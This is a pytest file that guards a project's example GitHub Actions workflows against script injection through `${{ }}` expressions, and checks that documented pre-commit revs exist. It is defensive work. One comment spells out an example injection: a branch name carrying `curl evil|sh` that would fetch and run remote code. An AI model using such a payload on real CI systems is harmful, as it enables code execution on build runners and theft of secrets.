"""The CI examples users copy: a PR workflow that no branch name can inject into, and
pre-commit revs that exist."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import yaml

REPO_ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((REPO_ROOT / "example-environments/.github/workflows").glob("*.y*ml"))
# GitHub substitutes ${{ ... }} into the script text before bash runs it: a branch named
# `x";curl evil|sh;"` would run. Values reach scripts through `env:` instead.
EXPRESSION = re.compile(r"\$\{\{")


def test_example_workflows_pass_github_values_through_the_environment() -> None:
    assert WORKFLOWS
    for path in WORKFLOWS:
        workflow = yaml.safe_load(path.read_text())
        for job_name, job in workflow["jobs"].items():
            for step in job["steps"]:
                script = step.get("run", "")
                assert not EXPRESSION.search(script), (
                    f"{path.name}: job {job_name}, step {step.get('name')!r} substitutes an "
                    f"expression into its script; pass it in `env:`:\n{script}"
                )


def documented_revs() -> list[tuple[str, str]]:
    found = []
    for path in (
        REPO_ROOT / "docs/format.md",
        REPO_ROOT / "example-environments/.pre-commit-config.yaml",
    ):
        for rev in re.findall(r"^\s*rev:\s*(\S+)", path.read_text(), flags=re.MULTILINE):
            found.append((path.name, rev))
    return found


def test_documented_pre_commit_revs_exist_in_this_repository() -> None:
    revs = documented_revs()
    assert revs
    for name, rev in revs:
        done = subprocess.run(
            ["git", "rev-parse", "--verify", "--quiet", f"{rev}^{{commit}}"],
            cwd=REPO_ROOT, capture_output=True, text=True, check=False,
        )  # fmt: skip
        assert done.returncode == 0, f"{name}: rev {rev} is not a ref of this repository"
